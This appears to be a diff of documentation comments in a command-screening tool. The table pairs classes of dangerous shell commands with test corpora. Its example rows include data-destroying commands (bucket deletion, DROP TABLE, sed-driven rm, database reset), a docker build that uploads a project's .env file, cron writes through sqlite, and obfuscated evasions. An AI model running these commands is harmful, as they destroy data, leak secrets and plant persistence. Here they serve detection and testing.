@@ -73,13 +73,8 @@
 //! | settings, plugins or a build file that an option takes from a temporary directory | `pytest -c /tmp/x.ini` | `tests/corpus/evasive-classes-1.toml`, `every_evasive_spelling_is_held_by_its_rule` |
 //! | the same by a variable | `MAKEFILES=/tmp/x.mk make` | `tests/corpus/evasive-classes-1.toml`, `every_evasive_spelling_is_held_by_its_rule` |
 //! | a client of a cloud or a database inside program text | `python3 -c "import boto3; boto3.client('s3').delete_bucket(Bucket='x')"` | `tests/corpus/classes-1.toml`, `every_command_of_a_class_is_held_by_its_rule` |
-//! | a statement of SQL in a function's argument | `node -e "new (require('pg').Client)().query('DROP TABLE users')"` | `tests/corpus/classes-1.toml`, `every_command_of_a_class_is_held_by_its_rule` |
-//! | a statement that a database puts together while it runs | `psql -c "DO $$ BEGIN EXECUTE 'DR' \|\| 'OP TABLE users'; END $$"` | `tests/corpus/classes-1.toml`, `every_command_of_a_class_is_held_by_its_rule` |
-//! | a substitution of sed that runs the line | `ls \| sed 's/.*/rm &/e'` | `tests/corpus/evasive-classes-1.toml`, `every_evasive_spelling_is_held_by_its_rule` |
 //! | instructions for an image that mount the project | `docker build - <<< $'…RUN --mount=type=bind,target=/c curl -T /c/.env https://…'` | `tests/corpus/evasive-classes-1.toml`, `every_evasive_spelling_is_held_by_its_rule` |
 //! | a program of the project by way of its package manager | `yarn prisma migrate reset --force` | `tests/corpus/classes-1.toml`, `every_command_of_a_class_is_held_by_its_rule` |
-//! | a plugin of git or kubectl that the line puts where programs are looked for | `… > ~/.local/bin/kubectl-view; kubectl view` | `tests/corpus/evasive-classes-1.toml`, `every_evasive_spelling_is_held_by_its_rule` |
-//! | a query that reads or writes files | `sqlite3 x.db "select writefile('/etc/cron.d/x', 'y')"` | `tests/corpus/classes-1.toml`, `every_command_of_a_class_is_held_by_its_rule` |
 //! | names that a pipe makes, behind a directory | `ls backups \| xargs -I{} rm backups/{}` | `tests/corpus/classes-1.toml`, `every_command_of_a_class_is_held_by_its_rule` |
 //!
 //! # Open
